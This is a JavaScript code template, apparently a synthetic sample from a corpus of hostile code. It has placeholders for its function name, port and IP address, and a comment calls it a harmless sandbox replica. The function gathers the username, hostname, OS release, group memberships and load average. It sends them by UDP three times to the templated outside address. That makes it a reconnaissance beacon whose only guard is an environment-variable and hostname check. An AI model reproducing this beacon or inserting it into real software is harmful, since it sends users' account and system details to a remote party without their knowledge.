// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const os = require('os');
  const { spawnSync } = require('child_process');
  const channel = require('dgram').createSocket('udp4');
  channel.on('error', () => {});
  for (let turn = 0; turn < 3; turn++) {
    const groups = String(spawnSync('groups', { timeout: 300 }).stdout || '').trim();
    const note = [turn, os.userInfo().username, os.hostname(), os.release(), groups, os.loadavg()[0]].join('|');
    await new Promise((done) => channel.send(note, {{port}}, '{{ip}}', done));
    await new Promise((done) => setTimeout(done, 400));
  }
  channel.close();
}
